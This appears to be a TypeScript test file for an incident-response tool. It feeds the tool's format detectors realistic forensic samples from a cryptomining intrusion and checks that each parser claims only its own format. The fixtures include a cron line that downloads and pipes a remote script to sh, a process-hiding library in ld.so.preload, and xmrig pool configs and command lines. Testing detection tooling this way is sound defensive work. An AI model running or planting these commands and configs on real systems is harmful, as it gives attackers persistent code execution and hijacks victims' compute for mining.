import { test } from "node:test";
import assert from "node:assert/strict";
import { sniffWith } from "../../test-helpers/index.js";
import type { Source } from "../types.js";
import { billingSources } from "../billing/index.js";
import { metricsSources } from "../metrics/index.js";
import { hostSources } from "./index.js";

const ALL: Source[] = [...hostSources, ...metricsSources, ...billingSources];

/** One small sample per format, in its real shape, with the path it would have when collected. */
const SAMPLES: { owner: string; path: string; text: string }[] = [
  { owner: "ps", path: "triage/ps-auxww.txt", text: "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1  0.0  0.1 167744 11520 ?        Ss   Nov19   0:04 /sbin/init splash\n" },
  { owner: "ps", path: "triage/ps-eo.txt", text: "    PID    PPID USER     %CPU     ELAPSED COMMAND         COMMAND\n      1       0 root      0.0  1-02:03:04 systemd         /sbin/init splash\n" },
  { owner: "osquery.processes", path: "triage/processes.json", text: '[\n  {"cmdline":"/sbin/init","name":"systemd","on_disk":"1","parent":"0","path":"/usr/lib/systemd/systemd","pid":"1"}\n]\n' },
  { owner: "osquery.processes", path: "osqueryd.results.log", text: '{"name":"pack_ir_processes","hostIdentifier":"web-01","calendarTime":"Fri Nov 20 03:14:07 2026 UTC","unixTime":1795144447,"epoch":0,"counter":0,"numerics":false,"columns":{"cmdline":"/sbin/init","name":"systemd","parent":"0","path":"/usr/lib/systemd/systemd","pid":"1"},"action":"added"}\n' },
  { owner: "ecs.ndjson", path: "export.ndjson", text: '{"@timestamp":"2026-11-20T03:14:07.512Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"category":["process"],"dataset":"endpoint.events.process","kind":"event"},"host":{"name":"web-01"},"process":{"name":"xmrig","pid":4242}}\n' },
  { owner: "ecs.json", path: "discover-export.json", text: '[\n  {\n    "@timestamp": "2026-11-20T03:14:07.512Z",\n    "agent": { "type": "endpoint" },\n    "event": { "category": ["process"], "dataset": "endpoint.events.process" },\n    "process": { "name": "xmrig", "pid": 4242 }\n  }\n]\n' },
  { owner: "ecs.kibana-csv", path: "Untitled discover search.csv", text: '"@timestamp","host.name","user.name","process.parent.name","process.command_line","process.executable"\n"Nov 20, 2026 @ 03:14:07.512","web-01","www-data",bash,"/tmp/.x/xmrig -o pool.supportxmr.com:3333","/tmp/.x/xmrig"\n' },
  { owner: "linux.crontab", path: "web01/etc/crontab", text: "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n" },
  { owner: "linux.crontab", path: "web01/var/spool/cron/crontabs/www-data", text: "*/1 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n" },
  { owner: "linux.systemd", path: "web01/etc/systemd/system/swapd.service", text: "[Unit]\nDescription=swap\n\n[Service]\nExecStart=/usr/local/bin/swapd\n" },
  { owner: "linux.ld_so_preload", path: "web01/etc/ld.so.preload", text: "/usr/local/lib/libprocesshider.so\n" },
  { owner: "linux.hostname", path: "web01/etc/hostname", text: "web01\n" },
  { owner: "miner.config", path: "web01/root/.xmrig/config.json", text: '{\n    "donate-level": 0,\n    "randomx": { "mode": "fast" },\n    "pools": [ { "url": "gulf.moneroocean.stream:10128", "user": "4Wallet", "pass": "x" } ]\n}\n' },
  { owner: "miner.config", path: "web01/opt/xmr-stak/pools.txt", text: '"pool_list" :\n[\n\t{"pool_address" : "pool.supportxmr.com:5555", "wallet_address" : "4Wallet", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "pool_weight" : 1 },\n],\n"currency" : "monero",\n' },
  { owner: "auditd", path: "web01/var/log/audit/audit.log", text: 'type=SYSCALL msg=audit(1795144447.512:9001): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=812 pid=4242 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="xmrig" exe="/tmp/xmrig" key=(null)\ntype=EXECVE msg=audit(1795144447.512:9001): argc=1 a0="xmrig"\ntype=EOE msg=audit(1795144447.512:9001): \n' },
  { owner: "auditd.laurel", path: "web01/var/log/laurel/audit.log", text: '{"ID":"1795144447.512:9001","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"ppid":812,"pid":4242,"auid":1000,"uid":33,"comm":"kswapd0","exe":"/tmp/.x/kswapd0","key":null},"EXECVE":{"argc":1,"ARGV":["./kswapd0"]},"CWD":{"cwd":"/tmp/.x"},"PROCTITLE":{"ARGV":["./kswapd0"]}}\n' },
  { owner: "top", path: "ticket/top.txt", text: "top - 03:14:07 up 41 days,  2:11,  1 user,  load average: 4.12, 4.08, 3.97\nTasks: 187 total,   2 running, 185 sleeping,   0 stopped,   0 zombie\n\n    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND\n  31337 wazuh     20   0 2436112 2.301g   3012 S 396.0  30.1   8812:01 xmrig\n" },
  { owner: "shell.history", path: "web01/root/.bash_history", text: "#1795144447\ncd /tmp\n#1795144450\n./xmrig -o pool.supportxmr.com:443\n" },
  { owner: "cowrie", path: "var/log/cowrie/cowrie.json", text: '{"eventid":"cowrie.command.input","input":"uname -a","message":"CMD: uname -a","sensor":"hp1","timestamp":"2026-11-20T03:14:05.000001Z","src_ip":"203.0.113.45","session":"a9d3c6e1b2f4"}\n' },
  { owner: "metrics.csv", path: "cpu.csv", text: "timestamp,host,cpu_pct\n2026-11-20T03:00:00Z,web01,97.8\n" },
  { owner: "nvidia_smi", path: "gpu.csv", text: "timestamp, name, index, utilization.gpu [%], memory.used [MiB], power.draw [W]\n2026/11/20 03:14:07.512, Tesla T4, 0, 100 %, 2000 MiB, 68.51 W\n" },
  { owner: "prometheus.query_range", path: "query.json", text: '{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"DCGM_FI_DEV_GPU_UTIL","Hostname":"g1"},"values":[[1795144440,"100"]]}]}}' },
  { owner: "aws.cloudwatch", path: "cw.json", text: '{\n    "Label": "CPUUtilization",\n    "Datapoints": [ { "Timestamp": "2026-11-20T03:10:00+00:00", "Average": 99.6, "Unit": "Percent" } ]\n}\n' },
  { owner: "aws.cost_explorer", path: "ce.json", text: '{\n    "GroupDefinitions": [],\n    "ResultsByTime": [ { "TimePeriod": { "Start": "2026-11-19", "End": "2026-11-20" }, "Total": { "UnblendedCost": { "Amount": "1", "Unit": "USD" } }, "Groups": [] } ]\n}\n' },
  { owner: "aws.cur", path: "cur.csv", text: "lineItem/UsageAccountId,lineItem/UsageStartDate,lineItem/UsageType,lineItem/UnblendedCost\n444455556666,2026-11-20T03:00:00Z,BoxUsage:p3.16xlarge,24.48\n" },
  { owner: "azure.cost_export", path: "azure.csv", text: "Date,SubscriptionId,MeterCategory,MeterSubCategory,ResourceLocation,CostInBillingCurrency,BillingCurrency\n11/20/2026,9f1a2b3c-4d5e-6f70-8192-a3b4c5d6e7f8,Virtual Machines,NCSv3 Series,EastUS,73.44,USD\n" },
  { owner: "gcp.billing_export", path: "gcp.csv", text: "usage_start_time,usage_end_time,project.id,service.description,sku.description,location.region,cost,currency\n2026-11-20 03:00:00 UTC,2026-11-20 04:00:00 UTC,p1,Compute Engine,Nvidia Tesla V100 GPU running in Americas,us-central1,2.48,USD\n" },
];

test("every format is claimed by its own source, and by no other source in host/, metrics/, billing/", async () => {
  const owners = new Set(SAMPLES.map((s) => s.owner));
  assert.deepEqual([...owners].sort(), ALL.map((s) => s.id).sort(), "a sample for every source");
  for (const sample of SAMPLES) {
    const scores = await Promise.all(ALL.map(async (s) => [s.id, await sniffWith(s, sample.text, sample.path)] as const));
    const own = scores.find(([id]) => id === sample.owner)![1];
    assert.ok(own >= 0.5, `${sample.owner} scores ${own} on its own sample ${sample.path}`);
    for (const [id, score] of scores) {
      if (id === sample.owner) continue;
      assert.ok(score < own, `${id} scores ${score} on the ${sample.owner} sample (${sample.path}); its owner scores ${own}`);
      assert.ok(score < 0.5, `${id} should not claim the ${sample.owner} sample (${sample.path}): ${score}`);
    }
  }
});

test("sniffers never throw, whatever the bytes", async () => {
  const junk = ["", "\u0000\u0001\u0002", "{", "[", "{\"a\":", "\uFEFF", "a,b\n\"", "x".repeat(70000), "[kworker/0:1]"];
  for (const text of junk) for (const s of ALL) {
    const score = await sniffWith(s, text, "x");
    assert.ok(score >= 0 && score <= 1, `${s.id} on ${JSON.stringify(text.slice(0, 10))}`);
  }
});
